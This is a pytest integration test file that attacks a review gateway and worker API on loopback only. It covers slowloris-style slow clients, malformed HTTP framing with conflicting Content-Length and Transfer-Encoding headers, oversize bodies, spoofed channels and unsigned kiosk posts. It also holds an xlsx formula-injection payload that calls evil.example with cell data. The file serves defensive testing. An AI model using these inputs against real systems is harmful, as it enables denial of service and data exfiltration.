"""Hostile input against the real processes, on loopback only, in bounded loops that stop by
themselves: slow clients (slowloris) on both HTTP servers, malformed framing (JSON 400, the log
bounded), oversize bodies, bad types, unsigned kiosk posts, a back-dated kiosk review, channel
spoofing, and formula text reaching the xlsx report as text.

Each socket has a timeout; each loop a count or a deadline. The servers run with short limits
(1.5 s for a head, 2 s for a body) so the test is quick; the defaults are 10 s and 30 s."""

from __future__ import annotations

import asyncio
import io
import json
import socket
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import orjson
import pytest

from apps.gateway.pairing import issue_pairing_code
from apps.gateway.registry import register_terminal
from apps.terminal_client.signing import sign_headers
from schemas.topics import REVIEWS_SUBMITTED
from tests.support.gateway_harness import GatewayProcess, read_topic

pytestmark = pytest.mark.integration

HEAD_S, BODY_S = 1.5, 2.0
SLACK = 2.0  # scheduling on a shared machine: the bound checked is limit + SLACK
LIMITS = dict(http_header_timeout_seconds=HEAD_S, http_body_timeout_seconds=BODY_S)
HALL, WINDOW, KIOSK_WINDOW = "H-CY", "H-CY-W01", "H-CY-W03"
MALFORMED = [
    b"POST /v1/reviews HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n",
    b"POST /v1/reviews HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST /v1/reviews HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: bogus\r\n\r\n",
    b"POST /v1/reviews HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    b"POST /v1/reviews HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
]


def _host_port(url: str) -> tuple[str, int]:
    u = httpx.URL(url)
    return u.host, u.port


def seconds_until_closed(url: str, head: bytes, dribble: bytes, give_up: float) -> float:
    """Send `head`, then `dribble` every 0.3 s; the seconds until the server closes (or `give_up`)."""
    with socket.create_connection(_host_port(url), timeout=give_up) as s:
        s.settimeout(0.3)
        s.sendall(head)
        t0 = time.monotonic()
        while time.monotonic() - t0 < give_up:
            try:
                s.sendall(dribble)
                if s.recv(4096) == b"":
                    break
            except socket.timeout:
                continue
            except (BrokenPipeError, ConnectionResetError):
                break
        return time.monotonic() - t0


def answer_of(url: str, raw: bytes) -> tuple[int, dict]:
    """One raw request; the status and JSON body of the answer (the server closes after it)."""
    with socket.create_connection(_host_port(url), timeout=10) as s:
        s.sendall(raw)
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    assert b"content-type: application/json" in head.lower(), head
    return status, orjson.loads(body)


def check_slow_and_malformed(url: str, post_path: str, log_text) -> None:
    """The shared checks of both servers."""
    host = f"Host: {_host_port(url)[0]}\r\n".encode()
    # Slow head: a header line every 0.3 s, never the blank line.
    took = seconds_until_closed(url, b"POST " + post_path.encode() + b" HTTP/1.1\r\n" + host, b"X-Slow: 1\r\n", 30)
    assert took <= HEAD_S + SLACK, f"slow head kept open {took:.1f} s"
    # Slow body: the head at once, then a byte every 0.3 s of a 10 kB body.
    head = (b"POST " + post_path.encode() + b" HTTP/1.1\r\n" + host +
            b"Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n{")
    took = seconds_until_closed(url, head, b" ", 30)
    assert took <= BODY_S + SLACK, f"slow body kept open {took:.1f} s"
    # A body no handler reads (an unknown path) is drained at most as long.
    head = b"POST /nowhere HTTP/1.1\r\n" + host + b"Content-Length: 10000\r\n\r\n"
    took = seconds_until_closed(url, head, b" ", 30)
    assert took <= BODY_S + SLACK, f"unread slow body kept open {took:.1f} s"

    # Malformed framing: JSON 400 each time, and the log bounded (at most a line a second).
    t0 = time.monotonic()
    for i in range(100):
        status, body = answer_of(url, MALFORMED[i % len(MALFORMED)])
        assert status == 400 and body["error"] == "bad_request" and body["code"] == "bad_request", body
        assert "malformed HTTP request" in body["detail"]
    took = time.monotonic() - t0
    time.sleep(1.2)
    answer_of(url, MALFORMED[0])  # the next line after a quiet second reports the suppressed
    text = log_text()
    lines = [ln for ln in text.splitlines() if "malformed request from" in ln]
    assert 1 <= len(lines) <= took + 3, f"{len(lines)} log lines for 100 malformed requests in {took:.1f} s"
    assert any("similar lines suppressed" in ln for ln in lines), lines
    assert "Error handling request" not in text and "Traceback" not in text


# --- the gateway --------------------------------------------------------------------------------


@pytest.fixture
def gateway(make_settings):
    s = make_settings(secret_key=f"hostile-{uuid.uuid4().hex[:6]}", gateway_rate_per_second=0,
                      gateway_refusal_rate_per_second=1, gateway_refusal_burst=10, **LIMITS)
    _, key = asyncio.run(register_terminal(s, "PAD-1", HALL, WINDOW))
    asyncio.run(register_terminal(s, "KIOSK-1", HALL, KIOSK_WINDOW, channel="kiosk"))
    with GatewayProcess(s) as gp:
        gp.key = key
        yield gp


def _review(**kw) -> dict:
    r = {"review_id": uuid.uuid4().hex, "channel": "pad", "hall_id": HALL, "window_id": WINDOW, "terminal_id": "PAD-1",
         "rating": 5, "happened_at": (datetime.now(UTC) - timedelta(seconds=5)).isoformat()}
    return r | kw


def _signed(gp, review: dict | bytes) -> httpx.Response:
    raw = review if isinstance(review, bytes) else orjson.dumps(review)
    headers = {"Content-Type": "application/json", **sign_headers(gp.key, "PAD-1", "POST", "/v1/reviews", raw)}
    return httpx.post(f"{gp.url}/v1/reviews", content=raw, headers=headers, timeout=10)


def test_gateway_slow_clients_and_malformed_framing(gateway):
    check_slow_and_malformed(gateway.url, "/v1/reviews", lambda: gateway.log_path.read_text(errors="replace"))


def test_gateway_oversize_bad_types_spoofed_channel(gateway):
    big = httpx.post(f"{gateway.url}/v1/reviews", content=b"{" + b" " * 2_000_000 + b"}", timeout=30,
                     headers={"Content-Type": "application/json"})
    assert big.status_code == 413 and big.json()["error"] == "body_too_large"
    for bad in ({"rating": True}, {"rating": "2"}, {"rating": 2.0}, {"evaluator": {"real_name": "yes"}}):
        resp = _signed(gateway, _review(**bad))
        assert (resp.status_code, resp.json()["error"]) == (422, "schema"), (bad, resp.text)
    assert _signed(gateway, _review(rating=1)).json()["error"] == "reason_required"
    assert _signed(gateway, _review(rating=1, reasons=["=HYPERLINK(\"x\")"])).json()["error"] == "unknown_reason"
    for claimed in ("kiosk", "hotline"):  # a pad claiming another channel
        resp = _signed(gateway, _review(channel=claimed))
        assert (resp.status_code, resp.json()["error"]) == (403, "channel_mismatch")
    assert _signed(gateway, _review(rating=2, reasons=["效率低"])).status_code == 202
    stored = [orjson.loads(m.value) for m in asyncio.run(read_topic(gateway.settings, REVIEWS_SUBMITTED.name))]
    assert [(r["channel"], r["rating"]) for r in stored] == [("pad", 2)]


def test_kiosk_unsigned_posts_refused_and_the_time_is_the_gateways(gateway):
    url = f"{gateway.url}/kiosk/KIOSK-1"
    with httpx.Client(timeout=10) as stranger:
        codes = [stranger.post(f"{url}/reviews", json={"rating": 5}).json()["error"] for _ in range(30)]
    assert set(codes) == {"kiosk_unpaired", "rate_limited"} and codes[0] == "kiosk_unpaired"
    # Paired through the real registry topic (what `haocha terminal pair` and the console do).
    _, code = asyncio.run(issue_pairing_code(gateway.settings, "KIOSK-1"))
    with httpx.Client(timeout=10) as kiosk:
        deadline = time.monotonic() + 15
        while (resp := kiosk.post(f"{url}/pair", json={"code": code})).status_code != 200:
            assert resp.json()["error"] in ("pairing_failed", "rate_limited") and time.monotonic() < deadline, resp.text
            time.sleep(1.2)  # the gateway learns the code within a poll; the stranger's refusals refill
        before = datetime.now(UTC).replace(microsecond=0)
        resp = kiosk.post(f"{url}/reviews", json={"review_id": "k-backdated", "rating": 4,
                                                  "happened_at": "2020-01-01T09:00:00+08:00"})
        assert resp.status_code == 202, resp.text
    sent = [orjson.loads(m.value) for m in asyncio.run(read_topic(gateway.settings, REVIEWS_SUBMITTED.name))]
    assert len(sent) == 1 and sent[0]["channel"] == "kiosk"
    assert datetime.fromisoformat(sent[0]["happened_at"]) >= before


# --- the worker's API ---------------------------------------------------------------------------


def test_worker_api_slow_clients_and_malformed_framing(make_settings, start_worker):
    w = start_worker(make_settings(**LIMITS)).wait_ready()
    check_slow_and_malformed(w.url, "/api/v1/session", w.logs)
    assert httpx.get(f"{w.url}/api/v1/health", timeout=10).status_code == 200  # and it serves on


# --- formula text in the report -----------------------------------------------------------------


def test_formula_text_reaches_the_xlsx_as_text(tmp_path: Path):
    from openpyxl import load_workbook

    from apps.report.export import write_files
    from apps.report.sample import generate
    from haocha.adapters.calendar_cn import ChineseWorkingCalendar
    from haocha.domain.directory import Directory
    from haocha.settings import PACKAGE_DATA
    from tests.support.sample_store import sample_report

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    raw = json.loads((PACKAGE_DATA / "directory.json").read_text(encoding="utf-8"))
    for d in raw["departments"]:
        d["name"] = hostile if d is raw["departments"][0] else "@" + d["name"]
    (tmp_path / "directory.json").write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
    directory, cal = Directory.load(tmp_path / "directory.json"), ChineseWorkingCalendar()
    as_of = datetime(2021, 6, 3, 9, 30, tzinfo=UTC)
    rep = sample_report(tmp_path / "chdb", "haocha_hostile", generate(directory, cal, n=200, seed=5), as_of, directory, cal)
    (path,) = write_files(rep, ["xlsx"], tmp_path / "out")
    wb = load_workbook(io.BytesIO(Path(path).read_bytes()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert hostile in {c.value for c in cells}
